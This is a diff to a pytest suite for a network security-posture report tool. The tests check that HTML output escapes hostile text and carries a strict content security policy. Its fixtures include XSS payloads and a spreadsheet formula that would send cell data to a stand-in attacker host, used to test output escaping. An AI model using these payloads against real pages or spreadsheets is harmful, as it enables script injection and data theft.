@@ -11,6 +11,7 @@ import json
 import os
 import re
 import stat
+from collections.abc import Iterable
 from datetime import UTC, datetime
 from html.parser import HTMLParser
 from importlib import resources
@@ -20,11 +21,13 @@ from typing import Any
 import pytest
 
 import secposture.report as report
+from inventory.store import ACTIVE, MISSING, STALE
 from secposture.config import AgencyConfig, Level, Profile, parse_config
 from secposture.i18n import messages
 from secposture.models import (
     Attempt,
     AttemptStatus,
+    ChangeKind,
     Finding,
     Host,
     Observation,
@@ -43,7 +46,9 @@ from secposture.report import (
     render_html,
     write_outputs,
 )
-from secposture.scoring import Score, score_findings
+from secposture.report_view import DEVICE_FACTS
+from secposture.scoring import ItemStatus, Score, score_findings
+from secposture.selfassessment import AnswerValue
 
 XSS = "<script>alert('xss')</script> Router admin"
 IMG = '"><img src=x onerror=alert(1)>'
@@ -55,7 +60,12 @@ BROKEN = "bad\udcff\ud800utf8"  # invalid UTF-8 read with surrogateescape, and a
 HOSTILE_TITLE = f"{XSS} {IMG} {SSTI} {PWNED}"
 HOSTNAME = f"{XSS}{IMG}"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-CSP = "default-src 'none'; style-src 'unsafe-inline'; img-src data:; script-src 'none'"
+SCRIPT_TEXT, SCRIPT_HASH = report.inventory_script()
+# Written out here, not taken from the code: this is the policy the page must carry.
+CSP = (
+    "default-src 'none'; style-src 'unsafe-inline'; img-src data:; "
+    f"script-src {SCRIPT_HASH}; base-uri 'none'; form-action 'none'"
+)
 STARTED = datetime(2026, 11, 27, 19, 0, tzinfo=UTC)  # 02:00 on 28/11 in Vietnam
 
 
@@ -186,6 +196,15 @@ def hostile_findings() -> list[Finding]:
             evidence=FORMULA,
         ),
         finding(
+            "net.ftp_anonymous",
+            Status.FAIL,
+            Severity.HIGH,
+            "192.168.1.100",
+            21,
+            "tcp",
+            evidence=f"anonymous login allowed, listing: {LONG}",
+        ),
+        finding(
             "net.telnet_exposed",
             Status.PASS,
             Severity.HIGH,
@@ -314,7 +333,16 @@ def test_write_outputs_writes_the_documents_with_exactly_the_agreed_keys(
     assert {tuple(sorted(s)) for s in services} == {
         ("name", "port", "product", "proto", "state", "version")
     }
-    assert set(findings) == {"agency", "sweep_id", "generated", "score", "findings", "attempts"}
+    assert set(findings) == {
+        "agency",
+        "sweep_id",
+        "generated",
+        "score",
+        "findings",
+        "attempts",
+        "posture",
+    }
+    assert findings["posture"] is None  # no framework posture was given to this report
     assert set(findings["score"]) == {"overall", "coverage", "assessed", "applicable"}
     assert {tuple(sorted(f)) for f in findings["findings"]} == {
         ("check_id", "evidence", "reason", "severity", "status", "target")
@@ -402,9 +430,11 @@ def test_hostile_network_text_is_shown_as_text_and_never_becomes_markup(
     for payload in (XSS, IMG, SSTI, PWNED):
         assert payload in page.text
     assert "&lt;script&gt;alert(&#39;xss&#39;)&lt;/script&gt; Router admin" in html
-    # ...and none of them made an element or an attribute
-    assert re.search(r"<script", html, re.IGNORECASE) is None
-    assert not any(tag in ("script", "img", "iframe", "object", "svg") for tag, _ in page.tags)
+    # ...and none of them made an element or an attribute: the one script is the page's own
+    assert len(re.findall(r"<script", html, re.IGNORECASE)) == 1
+    assert f"<script>{SCRIPT_TEXT}</script>" in html
+    assert [tag for tag, _ in page.tags].count("script") == 1
+    assert not any(tag in ("img", "iframe", "object", "svg") for tag, _ in page.tags)
     assert not any(name.startswith("on") for _, attrs in page.tags for name in attrs)
     assert not any(attrs.get("id") == "pwned" for _, attrs in page.tags)
     assert re.search(r"<[^>]*onerror=", html) is None
@@ -424,8 +454,8 @@ def test_very_long_network_strings_are_cut_and_can_wrap(written: report.ReportPa
     page = Page(html)
 
     # Evidence is cut at MAX_SHOWN characters, a hostname at MAX_NAME; each says what is left
-    evidence = "A" * (report.MAX_SHOWN - len("no answer to default communities "))
-    assert f"{evidence}… (còn 3033 ký tự, xem đầy đủ trong tệp JSON)" in page.section("passed")
+    evidence = "A" * (report.MAX_SHOWN - len("anonymous login allowed, listing: "))
+    assert f"{evidence}… (còn 3034 ký tự, xem đầy đủ trong tệp JSON)" in page.section("issues")
     hostname = "A" * report.MAX_NAME
     assert f"{hostname}… (còn 4744 ký tự" in page.section("inventory")
     assert "A" * (report.MAX_SHOWN + 1) not in html
@@ -443,7 +473,7 @@ def test_page_is_self_contained_and_forbids_scripts(written: report.ReportPaths)
     # Nothing is fetched: no src at all, links only to anchors in the page, no CSS imports
     for tag, attrs in page.tags:
         assert "src" not in attrs, tag
-        assert tag not in ("link", "base", "script")
+        assert tag not in ("link", "base", "iframe", "object", "embed", "form")
         assert (attrs.get("href") or "#").startswith("#"), attrs
         assert not any("http" in (value or "") for value in attrs.values()), attrs
     style = html[html.index("<style>") : html.index("</style>")]
@@ -555,7 +585,7 @@ def test_summary_counts_issues_by_severity_and_warns_of_an_incomplete_sweep(
     summary = incomplete.section("summary")
     assert "Lượt quét chưa đầy đủ" in summary
     assert "Có 1 bước quét không hoàn thành" in summary
-    assert "Nghiêm trọng 0 Cao 2 Trung bình 1 Thấp 0" in summary
+    assert "Nghiêm trọng 0 Cao 3 Trung bình 1 Thấp 0" in summary
     assert "Lượt quét chưa đầy đủ" not in complete.text
 
 
@@ -592,7 +622,10 @@ def test_not_assessed_section_shows_every_reason_and_every_failed_attempt(
     )
     section = page.section("not-assessed")
 
-    assert "192.168.1.5 port scan of this host did not complete" in section
+    assert (
+        "Dịch vụ Telnet (không mã hóa) đang mở port scan of this host did not complete "
+        "192.168.1.5" in section
+    )
     assert "portscan 192.168.1.5 Lỗi Hết thời gian chờ host timeout after 300 s" in section
     assert "discovery" not in section  # completed attempts are not listed
 
@@ -606,7 +639,8 @@ def test_passed_waived_and_inventory_are_listed(tmp_path: Path) -> None:
         )
     )
 
-    assert "192.168.1.20 no telnet service among open TCP ports" in page.section("passed")
+    # Passes are folded into one line per check, with every target that passed
+    assert "Dịch vụ Telnet (không mã hóa) đang mở 1 192.168.1.20" in page.section("passed")
     assert "Công văn 12/UBND" in page.section("passed")
     inventory = page.section("inventory")
     assert inventory.index("192.168.1.1 ") < inventory.index("192.168.1.5 ")
@@ -643,48 +677,55 @@ def test_times_follow_the_reader_language() -> None:
 # --- catalogue keys ------------------------------------------------------------------------
 
 TEMPLATES = resources.files("templates")
+# The agency report's own templates (the province pages test theirs).
+REPORT_TEMPLATES = ("report.html.j2", "_styles.html.j2", "_inventory_table.js.j2")
 T_CALL = re.compile(r"\bt\(")
 T_KEY = re.compile(r"\bt\(\s*[\"']([a-z0-9_.]+)[\"']")
-ENUM_FAMILIES = {
-    "report.level.": Level,
-    "report.profile.": Profile,
-    "report.severity.": Severity,
-    "report.status.": Status,
-    "report.attempt.": AttemptStatus,
-    "report.reason.": Reason,
+ANY_KEY = re.compile(r"[\"'](report\.[a-z0-9_.]+)[\"']")
+ENUM_FAMILIES: dict[str, Iterable[str]] = {
+    "report.level.": [m.value for m in Level],
+    "report.profile.": [m.value for m in Profile],
+    "report.severity.": [m.value for m in Severity],
+    "report.status.": [m.value for m in Status],
+    "report.attempt.": [m.value for m in AttemptStatus],
+    "report.reason.": [m.value for m in Reason],
+    "report.change.": [m.value for m in ChangeKind],
+    "report.pillar.": [m.value for m in ItemStatus],
+    "report.answer.": [m.value.replace("n/a", "na") for m in AnswerValue],
+    "report.device_status.": [ACTIVE, MISSING, STALE],
+    "report.device.": [key for key in DEVICE_FACTS if key != "hostname"],
 }
 
 
 def template_sources() -> dict[str, str]:
-    return {
-        entry.name: entry.read_text("utf-8")
-        for entry in TEMPLATES.iterdir()
-        if entry.name.endswith(".j2")
-    }
+    return {name: TEMPLATES.joinpath(name).read_text("utf-8") for name in REPORT_TEMPLATES}
 
 
 def test_every_label_the_template_uses_exists_in_both_languages() -> None:
     catalogue = messages()
     for name, source in template_sources().items():
         keys = T_KEY.findall(source)
-        # Only literal keys, so that this test sees every one of them
-        assert len(keys) == len(T_CALL.findall(source)), name
-        for key in keys:
+        # Only literal keys, so that this test sees every one of them (the not_available
+        # macro's t(key) gets its key as a literal at each call, which ANY_KEY finds)
+        macro_calls = len(re.findall(r"\bt\(key\)", source))
+        assert len(keys) + macro_calls == len(T_CALL.findall(source)), name
+        for key in [*keys, *ANY_KEY.findall(source)]:
             assert key in catalogue, f"{name}: {key}"
             assert catalogue[key]["vi"] and catalogue[key]["en"], key
 
 
 def test_every_enum_shown_in_the_report_has_a_label_in_both_languages() -> None:
     catalogue = messages()
-    for prefix, enum in ENUM_FAMILIES.items():
-        for member in enum:
-            assert f"{prefix}{member.value}" in catalogue
+    for prefix, values in ENUM_FAMILIES.items():
+        for value in values:
+            assert f"{prefix}{value}" in catalogue
 
 
 def test_every_report_label_is_used() -> None:
-    used = set(T_KEY.findall(" ".join(template_sources().values())))
-    code = Path(report.__file__).read_text("utf-8")
-    used |= set(re.findall(r"[\"'](report\.[a-z0-9_.]+)[\"']", code))
+    sources = " ".join(template_sources().values())
+    used = set(T_KEY.findall(sources)) | set(ANY_KEY.findall(sources))
+    for module in Path(report.__file__).parent.glob("*report*.py"):
+        used |= set(ANY_KEY.findall(module.read_text("utf-8")))
     report_keys = {key for key in messages() if key.startswith("report.")}
     unused = {
         key
